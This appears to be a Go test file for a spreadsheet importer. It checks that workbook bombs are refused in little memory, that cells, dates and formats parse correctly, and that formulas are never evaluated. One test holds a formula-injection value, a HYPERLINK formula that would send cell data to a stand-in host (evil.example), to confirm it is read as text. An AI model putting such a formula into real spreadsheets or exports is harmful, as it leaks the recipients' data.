package importer_test

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"pactum/internal/importer"
)

func TestReadXLSXRefusesHostileWorkbooks(t *testing.T) {
	for _, f := range hostileFixtures {
		t.Run(f.name, func(t *testing.T) {
			rows, err := readAll(t, hostileFile(t, f.name))
			var re *importer.ReadError
			if !errors.As(err, &re) {
				t.Fatalf("error %v, want a ReadError", err)
			}
			if re.Row != f.row || re.Message.Key != f.message {
				t.Errorf("row %d %s (%v), want row %d %s", re.Row, re.Message.Key, re.Err, f.row, f.message)
			}
			for _, r := range rows {
				if r.Row >= re.Row {
					t.Errorf("row %d read before the error on row %d", r.Row, re.Row)
				}
			}
		})
	}
}

// The workbook of the issue, a cell of 1 GiB zipped into about a megabyte, is refused without
// unpacking it, and so is the same cell in a sheet that lies about its size.
func TestReadXLSXRefusesAGigabyteCellInLittleMemory(t *testing.T) {
	for _, name := range []string{"one cell of 1 GiB", "one cell of 1 GiB in a part that says it holds 10 MB"} {
		data := hostileFile(t, name)
		if len(data) > 2<<20 {
			t.Fatalf("%s: the fixture takes %d bytes", name, len(data))
		}
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		_, err := readAll(t, data)
		runtime.ReadMemStats(&after)
		if err == nil {
			t.Fatalf("%s: read", name)
		}
		if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 8<<20 {
			t.Errorf("%s: %d bytes allocated to refuse it", name, alloc)
		}
	}
}

// A partner file that is a hostile workbook is a problem of the check, in the user's language.
func TestCheckPartnersRefusesAWorkbookBomb(t *testing.T) {
	res := checkBytes(t, hostileFile(t, "one cell of 1 GiB in a part that says it holds 10 MB"), nil)
	if res.OK() || len(res.Problems) != 1 || res.Problems[0].Row != 2 || res.Problems[0].Message.Key != "import.error.xlsx_cell" ||
		!reflect.DeepEqual(res.Problems[0].Message.Args, []any{"max", 32_767}) {
		t.Errorf("problems %+v", res.Problems)
	}
}

// Formula cells give the values Excel saved with them, and text that starts like a formula is
// text: nothing in a workbook is ever evaluated.
func TestFormulaCellsAreReadAsTheirSavedValues(t *testing.T) {
	res := checkBytes(t, formulaCells(t), nil)
	if !res.OK() || len(res.Creates) != 2 {
		t.Fatalf("problems %+v, %d to create", res.Problems, len(res.Creates))
	}
	kestrel, condor := res.Creates[0].Partner, res.Creates[1].Partner
	if name := kestrel.Texts["en"].Name; name != "Kestrel Bank" {
		t.Errorf("a name computed by a formula reads %q, want the saved value", name)
	}
	if name := condor.Texts["en"].Name; name != `=HYPERLINK("http://evil.example/?d="&A3,"Open")` {
		t.Errorf("a name written like a formula reads %q, want the text", name)
	}
	if condor.Type != "foundation" {
		t.Errorf("a type computed by a DDE formula reads %q, want the saved value", condor.Type)
	}
}

// xlsxRows reads a workbook of hand-written rows with the given shared strings and styles.
func xlsxRows(t *testing.T, parts map[string]string) []tableRow {
	t.Helper()
	rows, err := readAll(t, zipParts(t, parts))
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestReadXLSXCells(t *testing.T) {
	styles := `<numFmts count="3"><numFmt numFmtId="164" formatCode="dd/mm/yyyy"/><numFmt numFmtId="165" formatCode="hh:mm"/>` +
		`<numFmt numFmtId="14" formatCode="0.00"/></numFmts>` +
		`<cellStyleXfs count="1"><xf numFmtId="22"/></cellStyleXfs>` +
		`<cellXfs count="6"><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="165"/><xf numFmtId="15"/><xf numFmtId="14"/><xf numFmtId="4"/></cellXfs>`
	shared := `<si><t>itu</t></si><si><r><t>Union </t></r><r><rPr><b/></rPr><t xml:space="preserve">internationale</t></r></si>` +
		`<si><t>東京</t><rPh sb="0" eb="2"><t>トウキョウ</t></rPh></si><si><t>line_x000D_</t></si>`
	// The workbook's own format 14 (0.00) replaces the built-in date (D3).
	rows := `<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row>` +
		`<row r="3"><c r="A3" s="1"><v>42825</v></c><c r="B3" s="2"><v>0.5625</v></c><c r="C3" s="3"><v>42825.75</v></c>` +
		`<c r="D3" s="4"><v>14</v></c><c r="E3" s="5"><v>1234.5</v></c><c r="F3"><v>0.30000000000000004</v></c><c r="G3" s="9"><v>7</v></c></row>` +
		`<row r="4"><c r="C4" t="inlineStr"><is><t> sparse </t></is></c><c r="E4" t="inlineStr"><is><r><t>rich </t></r><r><t>inline</t></r></is></c></row>` +
		`<row r="5"><c r="A5"><f>SUM(A1:A2)</f><v>3</v></c><c r="B5" t="str"><f>A1&amp;"x"</f><v>itux</v></c><c r="C5" t="b"><f>TRUE()</f><v>1</v></c>` +
		`<c r="D5" t="e"><f>1/0</f><v>#DIV/0!</v></c><c r="E5" t="b"><v>0</v></c><c r="F5"><f>NOW()</f></c><c r="G5" t="d"><v>2017-03-31T00:00:00Z</v></c></row>` +
		`<row><c><v>1</v></c><c><v>2</v></c><c r="E6" s="1"/></row>` +
		`<row r="9"><c r="A9" s="1"/><c r="B9" t="inlineStr"><is><t>   </t></is></c></row>`
	got := xlsxRows(t, bookParts(rows, shared, styles))
	want := []tableRow{
		{1, []string{"itu", "Union internationale", "東京", "line"}},
		{3, []string{"2017-03-31", "13:30:00", "2017-03-31", "14", "1234.5", "0.3", "7"}},
		{4, []string{"", "", "sparse", "", "rich inline"}},
		{5, []string{"3", "itux", "TRUE", "#DIV/0!", "FALSE", "", "2017-03-31"}},
		{6, []string{"1", "2"}},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %v\nwant %v", got, want)
	}
}

func TestReadXLSXStructure(t *testing.T) {
	rows := `<row r="2"><c r="A2"><v>1</v></c></row>`
	first := `<row r="1"><c r="A1" t="inlineStr"><is><t>first</t></is></c></row>`
	parts := bookParts(rows, "", "")
	// The first sheet of the workbook's list is read, wherever its part is.
	parts[bookP] = workbookXML(`<workbookPr date1904="1"/>`)
	parts[bookP] = strings.Replace(parts[bookP], `<sheet name="Sheet1" sheetId="1" r:id="rId1"/>`,
		`<sheet name="Mine" sheetId="2" r:id="rId9"/><sheet name="Sheet1" sheetId="1" r:id="rId1"/>`, 1)
	parts[relsP] = strings.Replace(parts[relsP], `</Relationships>`,
		`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/xl/worksheets/mine.xml"/></Relationships>`, 1)
	parts["xl/worksheets/mine.xml"] = sheetXML(first + `<row r="2"><c r="A2" s="1"><v>41363</v></c></row>`)
	parts[stylesP] = `<styleSheet ` + mainNS + `><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>`
	want := []tableRow{{1, []string{"first"}}, {2, []string{"2017-03-31"}}}
	if got := xlsxRows(t, parts); !reflect.DeepEqual(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	// A workbook without a sheet has no rows; one whose sheet is missing cannot be read.
	parts[bookP] = workbookXML("")
	parts[bookP] = strings.Replace(parts[bookP], `<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>`, `<sheets/>`, 1)
	if got := xlsxRows(t, parts); got != nil {
		t.Errorf("no sheet: %v", got)
	}
	delete(parts, sheetP)
	parts[bookP] = workbookXML("")
	_, err := readAll(t, zipParts(t, parts))
	var re *importer.ReadError
	if !errors.As(err, &re) || re.Row != 1 || re.Message.Key != "import.error.xlsx" {
		t.Errorf("a missing sheet: %v", err)
	}
}

// Workbooks written by excelize, as the templates and exports are and as many tools write them.
func TestReadXLSXFromExcelize(t *testing.T) {
	for _, date1904 := range []bool{false, true} {
		book := excelize.NewFile()
		if err := book.SetWorkbookProps(&excelize.WorkbookPropsOptions{Date1904: &date1904}); err != nil {
			t.Fatal(err)
		}
		custom := "d mmmm yyyy"
		dayFirst, _ := book.NewStyle(&excelize.Style{CustomNumFmt: &custom})
		builtin, _ := book.NewStyle(&excelize.Style{NumFmt: 14})
		signed := time.Date(2017, 3, 31, 0, 0, 0, 0, time.UTC)
		set := func(cell string, v any, style int) {
			if err := book.SetCellValue("Sheet1", cell, v); err != nil {
				t.Fatal(err)
			}
			if style != 0 {
				book.SetCellStyle("Sheet1", cell, cell, style)
			}
		}
		set("A1", "reference", 0)
		set("B1", "signed_on", 0)
		set("C1", "amount", 0)
		set("A2", "ITU-1", 0)
		set("B2", signed, 0)
		set("C2", 0.1+0.2, 0)
		set("D2", true, 0)
		set("A3", "ITU-2", 0)
		set("B3", signed, dayFirst)
		set("C3", 25000, 0)
		set("A4", "ITU-3", 0)
		set("B4", signed, builtin)
		set("F7", "far", 0)
		err := book.SetCellRichText("Sheet1", "E2", []excelize.RichTextRun{{Text: "Cooperation "}, {Text: "in the Sahel", Font: &excelize.Font{Bold: true}}})
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := book.Write(&buf); err != nil {
			t.Fatal(err)
		}
		got, err := readAll(t, buf.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		want := []tableRow{
			{1, []string{"reference", "signed_on", "amount"}},
			{2, []string{"ITU-1", "2017-03-31", "0.3", "TRUE", "Cooperation in the Sahel"}},
			{3, []string{"ITU-2", "2017-03-31", "25000"}},
			{4, []string{"ITU-3", "2017-03-31"}},
			{7, []string{"", "", "", "", "", "far"}},
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("1904: %v\ngot  %v\nwant %v", date1904, got, want)
		}
	}
}

// A workbook reads alike from an upload in memory, a file, a section of either and a reader
// that cannot read at an offset (copied into memory first).
func TestReadRowsReadsAWorkbookFromAnyReader(t *testing.T) {
	data := workbook(t, map[int][]any{1: {"key", "name"}, 2: {"itu", "Union"}, 4: {"undp", 42}})
	want := []tableRow{{1, []string{"key", "name"}}, {2, []string{"itu", "Union"}}, {4, []string{"undp", "42"}}}
	path := filepath.Join(t.TempDir(), "partners.xlsx")
	if err := os.WriteFile(path, append([]byte("junk"), data...), 0o600); err != nil {
		t.Fatal(err)
	}
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	file.Seek(4, io.SeekStart)
	readers := map[string]io.Reader{
		"bytes.Reader":   bytes.NewReader(data),
		"os.File":        file,
		"section":        io.NewSectionReader(bytes.NewReader(append([]byte("junk"), data...)), 4, int64(len(data))),
		"a plain reader": io.MultiReader(bytes.NewReader(data[:100]), bytes.NewReader(data[100:])),
		"strings.Reader": strings.NewReader(string(data)),
		"a reader moved": func() io.Reader {
			r := bytes.NewReader(append([]byte("junk"), data...))
			r.Seek(4, io.SeekStart)
			return r
		}(),
	}
	for name, r := range readers {
		var got []tableRow
		err := importer.ReadRows(r, func(row int, cells []string) error {
			got = append(got, tableRow{row, append([]string(nil), cells...)})
			return nil
		})
		if err != nil || !reflect.DeepEqual(got, want) {
			t.Errorf("%s: %v %v", name, got, err)
		}
	}
}

// BenchmarkReadRowsHostileXLSX measures what refusing each hostile workbook takes, for
// docs/performance.md: go test ./internal/importer/ -run XXX -bench HostileXLSX -benchmem
func BenchmarkReadRowsHostileXLSX(b *testing.B) {
	for _, f := range hostileFixtures {
		data := hostileFile(b, f.name)
		b.Run(strings.ReplaceAll(f.name, " ", "_"), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				err := importer.ReadRows(bytes.NewReader(data), func(int, []string) error { return nil })
				if err == nil {
					b.Fatal("read")
				}
			}
		})
	}
}

// BenchmarkReadRowsXLSX reads a workbook of 20,000 agreement rows, 2.7 MB unpacked.
func BenchmarkReadRowsXLSX(b *testing.B) {
	book := excelize.NewFile()
	sw, _ := book.NewStreamWriter("Sheet1")
	for i := 1; i <= 20_000; i++ {
		cell, _ := excelize.CoordinatesToCellName(1, i)
		sw.SetRow(cell, []any{"ITU-MOU-" + strings.Repeat("7", i%5), "Cooperation in the Sahel", "mou", "itu", "signed", "USD", "AFR;ARB", "generic", 42825, 1234.5})
	}
	sw.Flush()
	var buf bytes.Buffer
	book.Write(&buf)
	b.SetBytes(int64(buf.Len()))
	b.ReportAllocs()
	for b.Loop() {
		rows := 0
		err := importer.ReadRows(bytes.NewReader(buf.Bytes()), func(int, []string) error { rows++; return nil })
		if err != nil || rows != 20_000 {
			b.Fatal(rows, err)
		}
	}
}
